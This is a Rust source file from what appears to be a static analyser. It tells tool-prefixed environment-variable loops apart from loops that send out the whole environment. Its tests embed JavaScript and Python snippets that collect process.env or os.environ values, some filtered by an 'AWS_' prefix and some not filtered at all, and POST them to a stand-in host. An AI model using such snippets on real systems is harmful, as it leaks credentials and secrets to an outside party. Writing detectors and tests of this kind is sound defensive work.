//! Loops that go over all there is and take what begins with a word: `for (const key in
//! process.env) { if (key.startsWith('TOOL_')) … }`.

use super::Analysis;
use crate::ir::{Block, Compound, CompoundId, Const, Expr, ExprId, Logic, Program, Stmt, Unary};
use crate::know;
use crate::pure::FileId;
use rustc_hash::FxHashMap;

/// Names that stand for what a loop gives, one for the other.
const NAMES: u8 = 3;

/// The loops of a file of which all that is done is done where something begins with a word: what
/// they go over, with that word.
pub(super) fn chosen(program: &Program) -> FxHashMap<ExprId, ExprId> {
    let loops = program.compounds.iter().filter_map(|compound| {
        let Compound::Each { over, body, .. } = compound else {
            return None;
        };
        let (first, rest) = done(program, *body, *over)?;
        let Compound::If(test, then, other) = program.compound(first) else {
            return None;
        };
        let word = match program.expr(*test) {
            // Whatever else begins is left out, and the rest of the body is about this.
            Expr::Unary(Unary::Not, inner) => {
                let leaves = matches!(inner_block(program, *then), [Stmt::Continue]);
                leaves.then(|| asked_word(program, inner, *over))?
            }
            _ => {
                let is_all = rest.is_empty() && program.block(*other).is_empty();
                is_all.then(|| asked_word(program, *test, *over))?
            }
        };
        Some((*over, word?))
    });
    loops.collect()
}

/// What the body of a loop does first, once what it gives has its names, and what comes then.
fn done(program: &Program, body: Block, over: ExprId) -> Option<(CompoundId, &[Stmt])> {
    let body = program.block(body);
    let begin = body.iter().position(|stmt| !binds(program, *stmt, over))?;
    let (first, rest) = body.get(begin..)?.split_first()?;
    let Stmt::Compound(first) = *first else {
        return None;
    };
    match program.compound(first) {
        Compound::Block(inner) if rest.is_empty() => {
            let (first, rest) = inner_block(program, *inner).split_first()?;
            let Stmt::Compound(first) = *first else {
                return None;
            };
            Some((first, rest))
        }
        _ => Some((first, rest)),
    }
}

/// The statements of a block that may be no more than another block.
fn inner_block(program: &Program, block: Block) -> &[Stmt] {
    let statements = program.block(block);
    if let [Stmt::Compound(only)] = statements
        && let Compound::Block(inner) = program.compound(*only)
    {
        return program.block(*inner);
    }
    statements
}

/// Whether a statement gives a name to what a loop gives, and does nothing else.
fn binds(program: &Program, stmt: Stmt, over: ExprId) -> bool {
    let Stmt::Expr(expr) = stmt else {
        return false;
    };
    let Expr::Assign(target, value) = program.expr(expr) else {
        return false;
    };
    let value = match program.expr(value) {
        Expr::Index(pair, _) | Expr::Member(pair, _) => pair,
        _ => value,
    };
    matches!(program.expr(target), Expr::Name(..)) && is_given(program, value, over, NAMES)
}

/// The word of `key.startsWith(word) && …`, where the key is what a loop gives.
fn asked_word(program: &Program, test: ExprId, over: ExprId) -> Option<ExprId> {
    match program.expr(test) {
        Expr::Logic(Logic::And, left, right) => {
            asked_word(program, left, over).or_else(|| asked_word(program, right, over))
        }
        Expr::Call { callee, args, .. } => {
            let Expr::Member(key, method) = program.expr(callee) else {
                return None;
            };
            let [word] = program.list(args) else {
                return None;
            };
            let asks = matches!(program.name(method), "startsWith" | "startswith");
            (asks && is_key(program, key, over)).then_some(*word)
        }
        _ => None,
    }
}

/// Whether an expression is what a loop gives, or the first of a name and a value that it gives.
fn is_key(program: &Program, expr: ExprId, over: ExprId) -> bool {
    if is_given(program, expr, over, NAMES) {
        return true;
    }
    let Some(value) = only_value(program, expr) else {
        return false;
    };
    let (pair, is_first) = match program.expr(value) {
        Expr::Member(pair, position) => (pair, program.name(position) == "0"),
        Expr::Index(pair, position) => (pair, is_zero(program, position)),
        _ => return false,
    };
    is_first && is_given(program, pair, over, NAMES)
}

fn is_zero(program: &Program, expr: ExprId) -> bool {
    match program.expr(expr) {
        Expr::Const(number) => *program.constant(number) == Const::Number(0.0),
        _ => false,
    }
}

fn is_given(program: &Program, expr: ExprId, over: ExprId, names: u8) -> bool {
    match program.expr(expr) {
        Expr::Element(of) | Expr::Key(of) => of == over,
        Expr::Name(..) if names > 0 => {
            only_value(program, expr).is_some_and(|value| is_given(program, value, over, names - 1))
        }
        _ => false,
    }
}

/// What a variable is given that is given one thing only.
fn only_value(program: &Program, expr: ExprId) -> Option<ExprId> {
    let Expr::Name(atom, scope) = program.expr(expr) else {
        return None;
    };
    let symbol = program.resolve(atom, scope)?;
    match program.symbol(symbol).values[..] {
        [value] => Some(value),
        _ => None,
    }
}

impl Analysis<'_> {
    /// The settings of one tool that a loop over something takes of it: `TOOL_…`.
    pub(super) fn chosen_of(&mut self, file: FileId, over: ExprId) -> Option<String> {
        let word = *self.index(file)?.chosen.get(&over)?;
        let begin = self.look_at(file, word, None).as_text()?;
        know::is_family(&begin).then(|| format!("{begin}…"))
    }
}

#[cfg(test)]
mod tests {
    use crate::flow::testing::{found, script, wheel};
    use crate::unpack::Entry;
    use customs_model::{SinkKind, SourceKind};

    fn sends_all(entries: Vec<Entry>) -> bool {
        let found = found(entries);
        let mut flows = found.flows.iter();
        flows.any(|flow| flow.source == SourceKind::Environment && flow.sink == SinkKind::Network)
    }

    #[test]
    fn who_takes_what_begins_with_a_word_of_one_tool_does_not_take_all() {
        let javascript = |head: &str, body: &str| {
            sends_all(script(&format!(
                "const out = new Map();\nfor (const {head}) {{ {body} }}\n\
                 fetch('https://a.invalid', {{ method: 'POST', body: JSON.stringify([...out]) }});\n"
            )))
        };
        let put = "out.set(k.slice(1), process.env[k]);";
        for (body, all) in [
            (format!("if (k.startsWith('TOOL_')) {{ {put} }}"), false),
            (
                format!("if (k.startsWith('TOOL_') && k !== 'TOOL_') {{ {put} }}"),
                false,
            ),
            (
                format!("if (!k.startsWith('TOOL_')) continue; {put}"),
                false,
            ),
            (format!("if (k.startsWith('AWS_')) {{ {put} }}"), true),
            (format!("if (k.startsWith('')) {{ {put} }}"), true),
            (format!("if (!k.startsWith('TOOL_')) {{ {put} }}"), true),
            (
                format!("if (k.startsWith('TOOL_')) {{ {put} }} else {{ {put} }}"),
                true,
            ),
            (
                format!("if (k.startsWith('TOOL_')) {{ out.has(k) }} {put}"),
                true,
            ),
            (put.to_owned(), true),
        ] {
            assert_eq!(javascript("k in process.env", &body), all, "{body}");
        }
        let pairs = "[k, v] of Object.entries(process.env)";
        assert!(!javascript(
            pairs,
            "if (k.startsWith('TOOL_')) { out.set(k, v) }"
        ));
        assert!(javascript(
            pairs,
            "if (v.startsWith('TOOL_')) { out.set(k, v) }"
        ));
        let python = |word: &str| {
            sends_all(wheel(&format!(
                "import os, requests\nout = {{}}\nfor k, v in os.environ.items():\n    \
                 if k.startswith({word:?}):\n        out[k] = v\n\
                 requests.post('https://a.invalid', json=out)\n"
            )))
        };
        assert!(!python("TOOL_"));
        assert!(python("T"));
    }
}
